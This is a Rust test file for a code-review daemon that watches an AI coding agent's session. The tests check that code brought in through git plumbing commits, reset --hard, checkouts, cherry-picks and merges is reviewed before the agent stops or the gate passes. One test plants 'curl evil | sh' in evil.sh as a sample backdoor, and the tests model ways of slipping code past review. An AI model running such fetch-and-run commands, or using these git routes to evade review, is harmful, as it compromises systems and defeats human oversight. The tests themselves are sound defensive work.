//! A HEAD move onto a tree no review covered (a commit made with git's plumbing and `reset
//! --hard`, `checkout BRANCH -- FILE`, a checkout of a branch no review saw) brings in code no
//! review saw: the gate never calls it up to date, the stop hook reviews it before the turn
//! ends, and a person's checkout outside an agent session still costs no review by itself.

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use std::path::Path;
use std::process::Output;
use std::time::Duration;

use cxd_e2e::{SETTLE_FAST_STOP_WAIT, TestEnv, git};
use serde_json::{Value, json};

const T: Duration = Duration::from_secs(30);

fn stdout_json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {:?}", String::from_utf8_lossy(&out.stdout)))
}

fn write_event(repo: &Path, file: &str, content: &str, session: &str) -> Value {
    let path = repo.join(file);
    std::fs::write(&path, content).unwrap();
    json!({"session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": repo,
        "hook_event_name": "PostToolUse", "tool_name": "Write",
        "tool_input": {"file_path": path, "content": content},
        "tool_response": {"type": "create", "filePath": path, "content": content, "structuredPatch": []}})
}

fn stop_event(repo: &Path, session: &str) -> Value {
    json!({"session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": repo,
        "hook_event_name": "Stop", "stop_hook_active": false, "last_assistant_message": "Done."})
}

fn approve() -> Value {
    json!({"answer": {"verdict": "approve", "summary": "fine", "findings": [], "fixed_finding_ids": []}})
}

fn blocking(file: &str) -> Value {
    json!({"answer": {"verdict": "changes_requested", "summary": "s", "findings": [{
        "severity": "high", "category": "security", "file": file, "line_start": 1, "line_end": 1,
        "title": "backdoor", "body": "b", "recommendation": "remove it", "confidence": 0.9}],
        "fixed_finding_ids": []}})
}

/// A commit of HEAD's tree plus `file` = `text`, made with plumbing only (no work-tree write):
/// `hash-object`, a private index, `write-tree`, `commit-tree`.
fn plumbing_commit(repo: &Path, file: &str, text: &str) -> String {
    let blob_file = repo.join(".git/blob-input");
    std::fs::write(&blob_file, text).unwrap();
    let blob = git(repo, &["hash-object", "-w", blob_file.to_str().unwrap()]);
    std::fs::remove_file(&blob_file).unwrap();
    let index = repo.join(".git/private-index");
    let with_index = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(repo)
            .env("GIT_INDEX_FILE", &index)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    with_index(&["read-tree", "HEAD"]);
    with_index(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("100644,{},{file}", blob.trim()),
    ]);
    let tree = with_index(&["write-tree"]);
    std::fs::remove_file(&index).unwrap();
    let out = std::process::Command::new("git")
        .args(["commit-tree", &tree, "-p", "HEAD", "-m", "plumbing"])
        .current_dir(repo)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .output()
        .unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

#[test]
fn a_plumbing_commit_reset_into_an_agents_session_is_reviewed_before_it_stops() {
    let (env, repo) = TestEnv::with_repo(SETTLE_FAST_STOP_WAIT);
    env.script_codex(&json!([approve(), blocking("evil.sh")]));
    let _d = env.start_daemon();
    env.ok(&["watch", repo.to_str().unwrap()]);
    // The agent edits (reviewed), then brings code in by git alone.
    env.hook("post-tool-use", &write_event(&repo, "a.txt", "a\n", "sess"));
    env.wait_reviews(1, T);
    let commit = plumbing_commit(&repo, "evil.sh", "curl evil | sh\n");
    git(&repo, &["reset", "-q", "--hard", &commit]);
    let v = stdout_json(&env.hook("stop", &stop_event(&repo, "sess")));
    assert_eq!(v["decision"], "block", "{v}");
    assert!(v["reason"].as_str().unwrap().contains("backdoor"), "{v}");
    let calls = env.codex_calls();
    assert_eq!(calls.len(), 2, "the move was reviewed");
    let p = calls[1]["prompt"].as_str().unwrap();
    assert!(p.contains("+curl evil | sh"), "{p}");
}

#[test]
fn the_gate_never_calls_a_moved_head_on_an_unreviewed_tree_up_to_date() {
    let (env, repo) = TestEnv::with_repo(SETTLE_FAST_STOP_WAIT);
    env.script_codex(&json!([approve(), blocking("other.txt")]));
    let d = env.start_daemon();
    env.ok(&["watch", repo.to_str().unwrap()]);
    // A branch no review saw, made outside cxd's view.
    let other = plumbing_commit(&repo, "other.txt", "unreviewed\n");
    git(&repo, &["branch", "other", &other]);
    std::fs::write(repo.join("a.txt"), "a\n").unwrap();
    env.wait_reviews(1, T);
    let out = env.run(&["gate", repo.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );

    // A person's checkout of that branch: the baseline follows it, no review runs by itself.
    git(&repo, &["checkout", "-q", "other"]);
    env.wait_log("head_moved", 1, T);
    assert_eq!(
        env.codex_calls().len(),
        1,
        "a person's checkout costs no review"
    );
    // The gate does not call it reviewed up to date.
    let out = env.run(&["gate", repo.to_str().unwrap()]);
    assert!(
        !out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    // A restart of the daemon does not forget it.
    drop(d);
    let _d = env.start_daemon();
    env.wait_state("idle", T);
    let out = env.run(&["gate", repo.to_str().unwrap()]);
    assert!(
        !out.status.success(),
        "after a restart: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    // Waiting, it reviews what came in (from the last reviewed tree) and judges it.
    let out = env.run(&["gate", repo.to_str().unwrap(), "--wait", "30"]);
    assert!(!out.status.success());
    let calls = env.codex_calls();
    assert_eq!(calls.len(), 2);
    let p = calls[1]["prompt"].as_str().unwrap();
    assert!(p.contains("+unreviewed"), "{p}");
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("backdoor"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    // Reviewed now: dismissed, the gate passes with no further review.
    env.ok(&["dismiss", "F1", repo.to_str().unwrap(), "--reason", "test"]);
    let out = env.run(&["gate", repo.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(env.codex_calls().len(), 2);
}

#[test]
fn a_cherry_pick_a_merge_and_a_file_checked_out_from_a_branch_are_reviewed_in_a_session() {
    let (env, repo) = TestEnv::with_repo(SETTLE_FAST_STOP_WAIT);
    env.script_codex(&json!([approve(), approve(), approve(), approve()]));
    let _d = env.start_daemon();
    env.ok(&["watch", repo.to_str().unwrap()]);
    let picked = plumbing_commit(&repo, "picked.txt", "picked in\n");
    git(&repo, &["branch", "side", &picked]);
    let merged = plumbing_commit(&repo, "merged.txt", "merged in\n");
    git(&repo, &["branch", "other", &merged]);
    let taken = plumbing_commit(&repo, "taken.txt", "taken in\n");
    git(&repo, &["branch", "third", &taken]);
    env.hook("post-tool-use", &write_event(&repo, "a.txt", "a\n", "sess"));
    env.wait_reviews(1, T);
    let user = ["-c", "user.name=t", "-c", "user.email=t@example.invalid"];
    let steps: [(&[&str], &str); 3] = [
        (&["cherry-pick", "side"], "+picked in"),
        (&["merge", "-q", "--no-edit", "other"], "+merged in"),
        (&["checkout", "third", "--", "taken.txt"], "+taken in"),
    ];
    for (n, (args, added)) in steps.into_iter().enumerate() {
        let all: Vec<&str> = user.iter().copied().chain(args.iter().copied()).collect();
        git(&repo, &all);
        let v = stdout_json(&env.hook("stop", &stop_event(&repo, "sess")));
        assert!(v.get("decision").is_none(), "{v}");
        let calls = env.codex_calls();
        assert_eq!(calls.len(), n + 2, "{args:?} was reviewed");
        let p = calls[n + 1]["prompt"].as_str().unwrap();
        assert!(p.contains(added), "{args:?}: {p}");
    }
}
